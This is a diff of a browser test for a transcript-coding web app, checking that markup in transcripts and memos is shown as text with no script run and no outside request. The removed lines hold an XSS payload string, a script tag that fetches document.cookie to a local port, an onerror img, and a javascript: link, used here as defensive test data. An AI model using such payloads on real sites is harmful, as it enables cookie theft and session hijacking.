@@ -232,34 +232,29 @@ def test_the_pages_hold_no_inline_script_or_style(client):
     assert re.findall(r"<script(?![^>]*\ssrc=)|<style|\son\w+=|style=", body) == []
 
 
-def test_a_text_full_of_markup_is_shown_as_text(tab, served, event, client):
+def test_a_text_full_of_markup_is_shown_as_text(tab, served, bilingual):
     """The page puts every text into the document as text: nothing of it runs and nothing is fetched."""
-    attack = (
-        "WK01: <script>fetch('http://127.0.0.1:1/?'+document.cookie)</script><img src=x onerror=alert(1)> "
-        "[x](javascript:alert(1)) {{7*7}} ${7*7} <!-- -->]]></style></textarea>"
-    )
-    event["coding"]["memo"] = attack
-    assert client.post(event) == 200
+    transcript = bilingual.corpus["s-w-2"]
+    attack = transcript.quote(transcript.turns[1].span)
     asked, alerts = [], []
     tab.on("request", lambda request: asked.append(request.url))
     tab.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
     tab.goto(served.server.link(served.coder), wait_until="commit")
-
-    def with_attack(route):
-        answer = route.fetch()
-        data = answer.json()
-        turn = data["transcript"]["turns"][1]
-        turn["text"], turn["speaker"] = attack, attack
-        turn["end"] = turn["start"] + len(attack)
-        route.fulfill(json=data)
-
-    tab.route("**/api/transcript/**", with_attack)
-    tab.goto(f"{served.url}/t/s-w-1", wait_until="commit")
+    tab.goto(f"{served.url}/t/s-w-2", wait_until="commit")
+    tab.wait_for_selector("[data-ready]")
+    for key in ("Control+a", "1", "Alt+m"):
+        tab.keyboard.press(key)
+    tab.keyboard.insert_text(attack)
+    tab.keyboard.press("Escape")
+    tab.wait_for_selector("[data-state=saved]")
+    tab.reload()
     tab.wait_for_selector("[data-ready]")
     tab.keyboard.press("[")
 
+    assert "<script>fetch(" in attack
     assert tab.locator("#turn-2 .bwa-words").text_content() == attack
     assert tab.locator(".bwa-details textarea").input_value() == attack
+    assert [kept.coding.memo for kept in served.held("s-w-2").codings.values()] == [attack]
     assert alerts == []
-    assert {url.split("/")[2] for url in asked} == {f"127.0.0.1:{client.port}"}
+    assert {url.split("/")[2] for url in asked} == {f"127.0.0.1:{served.server.port}"}
     assert tab.locator("#bwa-recode img, #bwa-recode script").count() == 0
